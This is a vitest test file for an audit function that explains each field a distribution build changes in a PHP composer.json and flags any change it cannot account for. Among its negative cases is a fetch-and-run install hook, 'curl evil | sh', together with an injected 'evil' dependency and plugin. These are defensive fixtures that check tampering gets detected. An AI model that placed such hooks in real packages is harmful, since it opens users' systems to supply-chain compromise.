import { describe, expect, it } from 'vitest';
import { explainStamp } from '../../../builder/audit/explain-stamp.js';
import type { ComposerJson } from '../../../builder/composer/composer-json.js';
import { find, Northwind, PLATFORM } from '../distribution/support/northwind.js';

const BEFORE: ComposerJson = {
  name: 'acme/a',
  version: '1.0.0',
  require: { php: '>=8.1', 'acme/lib': '103.*', 'x/y': '^1' },
  suggest: { 'acme/b': 'for more', 'acme/data': 'Sample Data version: 100.*' },
  extra: { key: [1] },
  license: 'MIT',
};
const AFTER: ComposerJson = {
  ...BEFORE,
  name: 'north/a',
  version: '3.0.0',
  require: { php: '>=8.1', 'north/lib': '3.0.0', 'x/y': '^1' },
  suggest: { 'north/b': 'for more', 'north/data': 'Sample Data version: 3.0.0' },
  replace: { 'acme/a': '1.0.0' },
  extra: { key: [1], 'upkeep-patches': [{ patch: 'a.patch' }] },
};

/** Fields that nothing explains. */
function strange(after: ComposerJson, before = BEFORE): string[] {
  return explainStamp(before, after, '3.0.0', [])
    .filter(({ why }) => why === null)
    .map(({ field }) => field);
}

describe('explainStamp', () => {
  it('explains what a build does', () => {
    const changes = explainStamp(BEFORE, AFTER, '3.0.0', []);
    expect(changes.map(({ field, why }) => `${field}: ${why}`)).toEqual([
      'extra: names the patches in it',
      'name: the vendor of the distribution',
      "replace: stands for upstream's package",
      'require: packages of the same release, exactly',
      'suggest: packages of the same release, exactly',
      'version: the version of the release',
    ]);
    expect(changes.find(({ field }) => field === 'replace')).toMatchObject({
      before: null,
      after: { 'acme/a': '1.0.0' },
    });
    expect(explainStamp(BEFORE, BEFORE, '3.0.0', [])).toEqual([]);
  });

  it.each<[string, Partial<ComposerJson>]>([
    ['name', { name: 'north/other' }],
    ['version', { version: '3.0.1' }],
    ['license', { license: 'proprietary' }],
    ['require', { require: { ...AFTER.require, 'evil/more': '*' } }],
    ['require', { require: { php: '>=5.3', 'north/lib': '3.0.0', 'x/y': '^1' } }],
    ['require', { require: { php: '>=8.1', 'north/lib': '3.0.0' } }],
    ['require', { require: { php: '>=8.1', 'north/other': '3.0.0', 'x/y': '^1' } }],
    ['replace', { replace: { 'acme/a': '1.0.0', 'acme/b': '1.0.0' } }],
    ['replace', { replace: { 'acme/a': '9.9.9' } }],
    ['replace', { replace: { 'other/a': '1.0.0' } }],
    ['extra', { extra: { key: [2], 'upkeep-patches': [] } }],
    ['extra', { extra: 'x' }],
    ['scripts', { scripts: { 'post-install-cmd': 'curl evil | sh' } }],
    ['config', { config: { 'allow-plugins': { 'evil/plugin': true } } }],
  ])('does not explain another %s: %j', (field, change) => {
    expect(strange({ ...AFTER, ...change })).toEqual([field]);
  });

  it('leaves it to the quirks of the recipe where there are some', () => {
    const after = { ...AFTER, license: 'OSL-3.0' };
    expect(
      explainStamp(BEFORE, after, '3.0.0', ['links', 'more']).find(({ field }) => field === 'license')?.why,
    ).toBe('quirk links, more');
  });

  it('explains names of plugins that a project allows', () => {
    const config = (name: string) => ({ config: { 'allow-plugins': { [name]: true } } });
    expect(strange({ ...AFTER, ...config('north/lib') }, { ...BEFORE, ...config('acme/lib') })).toEqual([]);
  });

  it('explains all that a build really makes of folders', async () => {
    const plan = await new Northwind().plan();
    const upstream = (path: string): ComposerJson => JSON.parse(PLATFORM[path] as string) as ComposerJson;
    for (const [name, path] of [
      ['northwind/a', 'code/A/composer.json'],
      ['northwind/b', 'code/B/composer.json'],
      ['northwind/lib', 'lib/composer.json'],
      ['northwind/theme', 'theme/composer.json'],
    ] as const) {
      const changes = explainStamp(upstream(path), find(plan, name).composer, '3.0.0', []);
      expect(changes.length, name).toBeGreaterThan(2);
      expect(
        changes.filter(({ why }) => why === null),
        name,
      ).toEqual([]);
    }
  });
});
